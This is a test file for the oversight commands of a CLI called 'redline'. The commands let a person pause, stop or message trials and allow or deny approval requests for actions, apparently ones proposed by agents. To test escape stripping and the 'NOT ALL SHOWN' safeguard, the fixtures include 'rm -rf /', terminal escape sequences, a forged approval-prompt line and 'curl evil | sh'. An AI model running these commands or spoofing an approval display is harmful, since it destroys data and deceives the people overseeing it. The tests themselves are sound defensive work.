import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Command } from "commander";
import { createLogger, jsonReply, startHttp, type HttpServer } from "@redline/daemon";
import { changeRequestSchema, interveneRequestSchema, whyRequestSchema } from "@redline/shared";
import { afterEach, beforeEach, expect, it } from "vitest";
import { EXIT } from "../exit-codes.ts";
import { oversightCommands } from "../program-oversight.ts";
import { FIXTURE_ID, FIXTURE_STUDY, FixtureJournal, trialId } from "../testing/fixture-journal.ts";
import { testContext } from "../testing/test-context.ts";
import { shownAction } from "./approval-shown.ts";
import type { Asker } from "./oversee-asker.ts";
import { oversee } from "./oversee.ts";

let dir = "";
let server: HttpServer;
let journal: FixtureJournal;
/** Bodies of the orders by their path. */
let orders: { path: string; body: unknown }[] = [];
/** Called for each order; what it gives is the answer. */
let onOrder: (path: string) => { status: number; body: object };

const TRIAL = trialId(1);
const ESCAPE = "run_command rm -rf /\u001b[2J\u202e\n| forged-001.1.q1 (arm) asks";

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "redline-oversee-"));
  orders = [];
  onOrder = (path) => ({
    status: 200,
    body: path.endsWith("/cancel")
      ? { stopped: ["alpha"], silent: path.includes("/studies/") ? ["beta"] : [], cancelledTrials: 1 }
      : path.startsWith("/api/studies")
        ? { study: FIXTURE_ID, paused: path.endsWith("/pause") }
        : { v: 1, running: 1, done: true, why: "" },
  });
  journal = new FixtureJournal()
    .submitted({ ...FIXTURE_STUDY, approvals: { rules: [{ pattern: "rm", do: "ask" }], askS: 60 } })
    .placed(1)
    .node("alpha", 1, { kind: "accepted", device: "origin", command: "c" });
  const take =
    (schema: { parse(body: unknown): unknown }) =>
    async (request: { path: string; json(): Promise<unknown> }) => {
      orders.push({ path: request.path, body: schema.parse(await request.json()) });
      const { status, body } = onOrder(request.path);
      return jsonReply(body, status);
    };
  server = await startHttp(
    { socketPath: join(dir, "api.sock") },
    [
      {
        method: "GET",
        path: /^\/api\/journal$/,
        handle: async ({ query }) => {
          const after = Number(query.get("after"));
          if (journal.lines.length <= after && query.get("waitMs") !== "0")
            await new Promise((done) => setTimeout(done, 10));
          return jsonReply({ lines: journal.lines.slice(after), head: journal.lines.length });
        },
      },
      { method: "POST", path: /^\/api\/studies\/[^/]+\/change$/, handle: take(changeRequestSchema) },
      { method: "POST", path: /^\/api\/studies\/[^/]+\/(pause|resume)$/, handle: take(whyRequestSchema) },
      { method: "POST", path: /^\/api\/studies\/[^/]+\/cancel$/, handle: take(whyRequestSchema) },
      { method: "POST", path: /^\/api\/trials\/[^/]+\/cancel$/, handle: take(whyRequestSchema) },
      { method: "POST", path: /^\/api\/trials\/[^/]+\/intervene$/, handle: take(interveneRequestSchema) },
    ],
    createLogger("fake", "silent"),
  );
});
afterEach(async () => {
  await server[Symbol.asyncDispose]();
  await rm(dir, { recursive: true });
});

const approve = (
  id: string,
  decision: "asked" | "allow" | "deny",
  who = "policy",
  shown: { action: string; cut?: boolean } = { action: ESCAPE },
) => journal.node("alpha", 1, { kind: "approval", id, ...shown, pattern: "rm", decision, who, why: "so" });
/** As a node that shows all of it records it. */
const WHOLE = { action: String.raw`run_command {"command":"rm -rf /"}`, cut: false };

/** The command line with these commands alone. */
async function redline(...argv: string[]) {
  const { context, out, err } = testContext(dir);
  let code: number | null = null;
  const program = new Command("redline")
    .exitOverride()
    .configureOutput({ writeErr: () => undefined })
    .option("--socket <path>")
    .option("--json", "", false);
  oversightCommands(program, context, async (command) => {
    code = await command();
  });
  let error = "";
  await program
    .parseAsync([...argv, "--socket", join(dir, "api.sock")], { from: "user" })
    .catch((cause: unknown) => {
      error = cause instanceof Error ? cause.message : String(cause);
    });
  return { code, error, out: out.text(), err: err.text() };
}
const lastOrder = () => {
  const { path, body } = orders.at(-1) ?? { path: "", body: {} };
  return { path, body };
};

it("sends changes by their names, none for what is taken away, and who and why with them", async () => {
  const { code, out } = await redline(
    ...["study", "change", "fixture", "--limit", "timeS=300", "--limit", "workingS=none"],
    ...["--budget", "costUsd=2.5", "--why", "slow model"],
  );
  expect([code, out]).toEqual([EXIT.done, expect.stringContaining(`${FIXTURE_ID} is changed`)]);
  expect(lastOrder()).toMatchObject({
    path: `/api/studies/${FIXTURE_ID}/change`,
    body: { limits: { timeS: 300, workingS: null }, budget: { costUsd: 2.5 }, why: "slow model" },
  });
  expect((await redline("study", "change", "fixture", "--limit", "timeS=1e9", "--why", "x")).error).toContain(
    '--limit: expected NAME=NUMBER or NAME=none, got "timeS=1e9"',
  );
  expect((await redline("study", "change", "fixture", "--why", "x")).error).toContain("nothing to change");
  expect((await redline("study", "change", "fixture", "--limit", "turns=1")).error).toContain("--why");
  onOrder = () => ({ status: 422, body: { problems: ["limits.turns: Too big"] } });
  expect((await redline("study", "change", "fixture", "--limit", "turns=9999", "--why", "x")).error).toBe(
    "the coordinator refuses this:\n  limits.turns: Too big",
  );
  journal.ended();
  expect((await redline("study", "pause", "fixture", "--why", "x")).error).toContain("has ended");
});

it("pauses, resumes, stops and speaks to a trial, and says what its node refused", async () => {
  expect((await redline("study", "pause", "fixture", "--why", "x")).out).toContain("is paused");
  expect((await redline("study", "resume", FIXTURE_ID, "--why", "x")).out).toContain("goes on");
  const stopped = await redline("study", "stop", "fixture", "--why", "x");
  expect([stopped.code, stopped.out]).toEqual([
    EXIT.notSterile,
    expect.stringContaining("did not confirm: beta"),
  ]);
  expect((await redline("trial", "pause", TRIAL, "--why", "look")).code).toBe(EXIT.done);
  expect(lastOrder()).toMatchObject({
    path: `/api/trials/${TRIAL}/intervene`,
    body: { act: { do: "pause" }, why: "look" },
  });
  expect((await redline("trial", "message", TRIAL, "Leave it.", "--why", "x")).out).toContain(
    "beside the rates",
  );
  expect(lastOrder().body).toMatchObject({ act: { do: "message", text: "Leave it." } });
  expect((await redline("trial", "message", TRIAL, "x".repeat(4001), "--why", "x")).error).toContain("4001");
  expect((await redline("trial", "stop", TRIAL, "--why", "x")).out).toContain("nothing of it runs on alpha");
  expect((await redline("trial", "resume", "001", "--why", "x")).error).toContain(`did you mean "${TRIAL}"`);
  onOrder = () => ({ status: 200, body: { v: 1, running: 0, done: false, why: "not\u001b[2J paused" } });
  const refused = await redline("trial", "resume", TRIAL, "--why", "x");
  expect([refused.code, refused.out]).toEqual([EXIT.unexpected, `${TRIAL}: not done: not paused\n`]);
  onOrder = () => ({ status: 504, body: { error: "alpha did not answer" } });
  expect((await redline("trial", "pause", TRIAL, "--why", "x")).error).toBe("alpha did not answer");
});

it("lists what waits without letting it speak to the terminal, and answers it by its id", async () => {
  expect((await redline("approval")).out).toBe("nothing waits for an answer\n");
  approve("q1", "asked", "policy", WHOLE);
  approve("q2", "asked");
  approve("q2", "deny", "nobody");
  const listed = await redline("approval", "list");
  expect(listed.out).toContain(`${TRIAL}.1.q1  cross-device/competent/tiny`);
  expect(listed.out).toContain(`\n  | ${WHOLE.action}\n`);
  expect(listed.out).not.toMatch(/q2|NOT ALL/);
  expect(listed.out).not.toMatch(/[\u001b\u202e]/);
  expect((await redline("approval", "allow", `${TRIAL}.1.q1`, "--why", "fine")).out).toContain("is allowed");
  expect(lastOrder().body).toMatchObject({ act: { do: "decide", id: "q1", allow: true }, why: "fine" });
  expect((await redline("approval", "deny", "q1", "--why", "no")).out).toContain("is denied");
  expect((await redline("approval", "deny", "q2", "--why", "no")).error).toContain('no question "q2" waits');
});

it.each([
  ["was cut by its node", { action: "rm a [... 9 characters NOT SHOWN ...] b", cut: true }],
  ["would move the cursor", { action: "rm a\u001b]; curl evil | sh", cut: false }],
  ["is in a record that does not say", { action: "rm a" }],
])("allows what %s only where somebody says so", async (_name, shown) => {
  approve("q1", "asked", "policy", shown);
  const listed = await redline("approval", "list");
  expect(listed.out).toContain("NOT ALL SHOWN");
  expect(listed.out).not.toContain("\u001b");
  const refused = await redline("approval", "allow", "q1", "--why", "fine");
  expect(refused.error).toContain("NOT ALL SHOWN");
  expect(orders).toEqual([]);
  expect((await redline("approval", "deny", "q1", "--why", "no")).out).toContain("is denied");
  const allowed = await redline("approval", "allow", "q1", "--why", "fine", "--all-seen");
  expect(allowed.out).toContain("is allowed");
  expect(lastOrder().body).toMatchObject({ act: { do: "decide", allow: true } });
});

it("asks at the terminal a second time before it allows what is not all shown", async () => {
  const cut = { action: `${"x".repeat(300)} rm`, cut: true };
  approve("q1", "asked", "policy", cut);
  approve("q2", "asked", "policy", WHOLE);
  approve("q3", "asked", "policy", cut);
  // The input ends here.
  approve("q4", "asked", "policy", WHOLE);
  const script = ["a", "y", "a", "no", "d", "why not", "a", "it is fine", "a", "yes", "read it all"];
  const { asker, asked } = person(() => script.shift() ?? null);
  const { context, out } = testContext(dir);
  await oversee(context, { study: undefined, socket: join(dir, "api.sock") }, () => asker);
  expect(orders.map(({ body }) => body)).toMatchObject([
    { act: { id: "q1", allow: false }, why: "why not" },
    { act: { id: "q2", allow: true }, why: "it is fine" },
    { act: { id: "q3", allow: true }, why: "read it all" },
  ]);
  expect(asked.filter((prompt) => prompt.startsWith("NOT ALL"))).toHaveLength(3);
  expect(out.text().match(/NOT ALL SHOWN/g)).toHaveLength(2);
  // No line is left to the terminal to break.
  expect(
    out
      .text()
      .split("\n")
      .filter((line) => line.includes("xxx") && !line.startsWith("  | x")),
  ).toEqual([]);
  expect(
    Math.max(
      ...out
        .text()
        .split("\n")
        .map((line) => line.length),
    ),
  ).toBeLessThanOrEqual(160);
});

it("shows the whole of an action behind the bar, whatever newlines an old record has", () => {
  const { lines, whole } = shownAction({ action: `${"\n".repeat(600)}rm -rf /`, cut: undefined }, 80);
  expect(lines.join("")).toBe(`${"\\n".repeat(600)}rm -rf /`);
  expect(whole).toBe(false);
  expect(shownAction({ action: "\u4f60".repeat(50), cut: false }, 40)).toEqual({
    lines: ["\u4f60".repeat(20), "\u4f60".repeat(20), "\u4f60".repeat(10)],
    whole: true,
  });
});

/** A person whose answers the test gives; `asked` keeps the prompts. */
function person(answers: (prompt: string) => string | null | Promise<never>) {
  const asked: string[] = [];
  const asker: Asker = {
    async ask(prompt, signal) {
      asked.push(prompt);
      const aborted = new Promise<never>((_, reject) => {
        const stop = () => reject(signal.reason instanceof Error ? signal.reason : new Error("aborted"));
        if (signal.aborted) stop();
        else signal.addEventListener("abort", stop, { once: true });
      });
      return Promise.race([answers(prompt), aborted]);
    },
    close: () => undefined,
  };
  return { asker, asked };
}
const never = () => new Promise<never>(() => undefined);

it("asks for each question in turn, sends the answer and its reason, and ends with the study", async () => {
  approve("q1", "asked");
  approve("q2", "asked");
  const script = ["what?", "d", "not here", "s", ""];
  const { asker, asked } = person(() => script.shift() ?? null);
  onOrder = (path) => {
    if (!path.endsWith("/cancel")) return { status: 200, body: { v: 1, running: 1, done: true, why: "" } };
    journal.coordinator({ kind: "cancelled", trial: TRIAL, why: "cancelled by a: b" }).ended();
    return { status: 200, body: { stopped: ["alpha"], silent: [], cancelledTrials: 1 } };
  };
  const { context, out } = testContext(dir);
  const options = { study: "fixture", socket: join(dir, "api.sock") };
  expect(await oversee(context, options, () => asker)).toBe(EXIT.done);
  expect(asked.filter((prompt) => prompt === "reason: ")).toHaveLength(2);
  expect(orders.map(({ path, body }) => [path.split("/").at(-1), body])).toMatchObject([
    ["intervene", { act: { do: "decide", id: "q1", allow: false }, why: "not here" }],
    ["cancel", { why: "no reason given" }],
  ]);
  const shown = out.text();
  expect(shown).toContain(`${TRIAL}.1.q1 (cross-device/competent/tiny) asks`);
  expect(shown).toContain("\n  | run_command rm -rf /\n  | | forged-001.1.q1 (arm) asks\n");
  expect(shown).toContain(`${TRIAL} is over: cancelled`);
  expect(shown).not.toMatch(/[\u001b\u202e]/);
});

it("takes a question away that was decided elsewhere, and lets nothing typed for it answer the next", async () => {
  approve("q1", "asked");
  const { asker, asked } = person((prompt) => {
    if (prompt.startsWith("press Enter")) return "";
    if (asked.length === 1) approve("q1", "deny", "nobody");
    else journal.ended();
    return never();
  });
  const { context, out, signals } = testContext(dir);
  const options = { study: undefined, socket: join(dir, "api.sock") };
  const work = oversee(context, options, () => asker);
  const deadline = Date.now() + 10_000;
  while (!out.text().includes("deny by nobody (so)") && Date.now() < deadline)
    await new Promise((done) => setTimeout(done, 5));
  expect(out.text()).toContain(`${TRIAL}.1.q1: deny by nobody (so)`);
  signals.emit("SIGINT");
  expect(await work).toBe(EXIT.interrupted);
  expect(orders).toEqual([]);
  expect(asked.at(-1)).toContain("press Enter");
});

it("asks nobody where there is no terminal", async () => {
  const { context } = testContext(dir);
  await expect(oversee(context, { study: undefined }, () => null)).rejects.toMatchObject({
    code: EXIT.usage,
  });
});
